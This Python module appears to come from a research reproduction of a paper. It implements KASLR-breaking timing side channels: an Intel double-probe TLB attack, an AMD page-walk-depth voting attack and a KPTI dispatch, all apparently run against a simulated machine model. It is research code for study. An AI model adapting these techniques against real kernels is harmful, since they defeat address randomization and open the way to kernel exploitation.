"""Kernel-base derandomization (paper Section IV-B, Figure 4, Table I).

Two variants, matching the paper's Intel and AMD procedures:

* **Intel** -- the double-probe page-table attack (P2): each of the 512
  candidate slots is accessed twice and the second access is timed.  A
  mapped slot's second access hits the TLB (~93 cycles on the i5-12400F);
  an unmapped slot's walks again (~107 cycles).  The threshold comes from
  the masked-store self-calibration.
* **AMD (Zen 3)** -- kernel probes never fill the TLB, so mapped and
  unmapped slots time identically under P2.  Instead the attack exploits
  the five 4 KiB pages the kernel-mapped area contains: translations that
  terminate at the PT level walk one level deeper than the 2 MiB/unmapped
  cases (P3).  The attacker knows the pages' constant offsets from the
  base (the same assumption as knowing function offsets) and scores each
  candidate base by how many of the five expected addresses show the
  deeper-walk signature.

Each break runs candidates -> scan -> decode: a candidate address list,
one :func:`scan` sweep, and a decode of the *classified* result into
``(base, slot)``.  The supervisor reuses the candidates and the decode
around its own chunked scan and repair.
"""

from repro.attacks.calibrate import calibrate_store_threshold, robust_stats
from repro.errors import AttackError
from repro.os.linux import layout


class KaslrBreakResult:
    """Outcome of one kernel-base derandomization run."""

    __slots__ = (
        "base",
        "slot",
        "timings",
        "threshold",
        "probing_ms",
        "total_ms",
        "mapped_slots",
        "method",
    )

    def __init__(self, base, slot, timings, threshold, probing_ms, total_ms,
                 mapped_slots, method):
        self.base = base
        self.slot = slot
        self.timings = timings
        self.threshold = threshold
        self.probing_ms = probing_ms
        self.total_ms = total_ms
        self.mapped_slots = mapped_slots
        self.method = method

    def __repr__(self):
        return "KaslrBreakResult(base={:#x}, {} in {:.3f} ms)".format(
            self.base if self.base is not None else 0,
            self.method, self.total_ms,
        )


def kaslr_variant(machine):
    """Which KASLR break fits ``machine``: "kpti", "intel" or "amd".

    KPTI status is world-readable on real systems
    (``/sys/devices/system/cpu/vulnerabilities``), so choosing the
    trampoline variant on a KPTI kernel grants the attacker nothing the
    threat model doesn't already.
    """
    if getattr(machine.kernel, "kpti", False):
        return "kpti"
    if machine.cpu.fills_tlb_for_supervisor_user_probe:
        return "intel"
    return "amd"


def break_kaslr(machine, rounds=None, calibration=None, engine=None):
    """Dispatch to the appropriate KASLR break for this machine."""
    variant = kaslr_variant(machine)
    if variant == "kpti":
        from repro.attacks.kpti_break import break_kaslr_kpti

        return break_kaslr_kpti(machine, rounds=rounds,
                                calibration=calibration, engine=engine)
    if variant == "intel":
        return break_kaslr_intel(machine, rounds, calibration, engine=engine)
    return break_kaslr_amd(machine, rounds, engine=engine)


# -- candidates -> scan -> decode ---------------------------------------------


def slot_candidates():
    """The base address of each of the 512 2 MiB KASLR slots."""
    return [
        layout.kernel_base_of_slot(slot)
        for slot in range(layout.KERNEL_TEXT_SLOTS)
    ]


def amd_candidates(page_offsets=layout.KERNEL_4K_PAGE_OFFSETS):
    """Candidate base x 4 KiB-page-offset grid, one row per usable slot."""
    usable = layout.KERNEL_TEXT_SLOTS - layout.KERNEL_IMAGE_2M_PAGES
    return [
        layout.kernel_base_of_slot(slot) + offset
        for slot in range(usable)
        for offset in page_offsets
    ]


def scan(core, vas, rounds, engine=None):
    """Time one double-probe load per candidate (mean over ``rounds``)."""
    return list(core.probe_sweep(vas, rounds=rounds, op="load",
                                 engine=engine))


def decode_slots(mapped, trampoline_offset=None):
    """``(base, slot)`` from the sorted list of mapped slot indices.

    The first mapped slot is the kernel base -- or, on a KPTI kernel, the
    trampoline, which sits ``trampoline_offset`` bytes above the base.
    """
    if not mapped:
        return None, None
    base = layout.kernel_base_of_slot(mapped[0])
    if trampoline_offset is not None:
        base -= trampoline_offset
    return base, layout.kernel_slot_of(base)


def decode_votes(votes, min_votes):
    """``(base, slot)`` of the best-scoring candidate base, if it scores
    at least ``min_votes``."""
    best_slot = max(range(len(votes)), key=lambda s: votes[s])
    if votes[best_slot] < min_votes:
        return None, None
    return layout.kernel_base_of_slot(best_slot), best_slot


# -- the plain drivers --------------------------------------------------------


def break_slots(machine, rounds, calibration, engine, trampoline_offset,
                method):
    """Double-probe all 512 slots and decode the first mapped one.

    The scan body shared by the Intel P2 break (``trampoline_offset``
    None) and the KPTI trampoline break.
    """
    core = machine.core
    if rounds is None:
        rounds = machine.cpu.rounds_default

    total_start = core.clock.cycles
    core.run_setup()
    if calibration is None:
        calibration = calibrate_store_threshold(machine, engine=engine)

    probe_start = core.clock.cycles
    timings = scan(core, slot_candidates(), rounds, engine)
    probing_ms = core.clock.cycles_to_ms(
        core.clock.elapsed_since(probe_start)
    )

    mapped = [
        slot for slot, t in enumerate(timings)
        if calibration.classify_mapped(t)
    ]
    base, slot = decode_slots(mapped, trampoline_offset)
    total_ms = core.clock.cycles_to_ms(core.clock.elapsed_since(total_start))
    return KaslrBreakResult(
        base, slot, timings, calibration.threshold, probing_ms, total_ms,
        mapped, method=method,
    )


def break_kaslr_intel(machine, rounds=None, calibration=None, engine=None):
    """Double-probe all 512 slots and locate the first mapped run.

    ``engine`` selects the sweep executor for the 512-slot sweep and the
    calibration (:meth:`repro.cpu.core.Core.probe_sweep`).
    """
    return break_slots(machine, rounds, calibration, engine,
                       trampoline_offset=None, method="intel-p2")


def break_kaslr_amd(machine, rounds=None,
                    page_offsets=layout.KERNEL_4K_PAGE_OFFSETS,
                    min_votes=5, engine=None):
    """Score candidate bases by the deep-walk signature of 4 KiB pages."""
    core = machine.core
    if rounds is None:
        rounds = machine.cpu.rounds_default
    if machine.cpu.fills_tlb_for_supervisor_user_probe:
        raise AttackError(
            "the walk-level break targets parts that do not fill the TLB "
            "for supervisor probes (AMD); use break_kaslr_intel here"
        )

    total_start = core.clock.cycles
    core.run_setup()

    probe_start = core.clock.cycles
    timings = scan(core, amd_candidates(page_offsets), rounds, engine)
    probing_ms = core.clock.cycles_to_ms(
        core.clock.elapsed_since(probe_start)
    )

    # Self-calibration: almost every probe lands on a depth-3 termination
    # (2 MiB mapping or a non-present PDE), so the global median is the
    # shallow-walk mode; deep (PT-level) walks sit one level step above it.
    median, __, __ = robust_stats(timings)
    threshold = median + machine.cpu.level_step_cycles / 2.0
    width = len(page_offsets)
    votes = [
        sum(1 for t in timings[i : i + width] if t > threshold)
        for i in range(0, len(timings), width)
    ]
    base, slot = decode_votes(votes, min_votes)
    total_ms = core.clock.cycles_to_ms(core.clock.elapsed_since(total_start))
    return KaslrBreakResult(
        base, slot, votes, threshold, probing_ms, total_ms,
        mapped_slots=[slot] if slot is not None else [], method="amd-p3",
    )
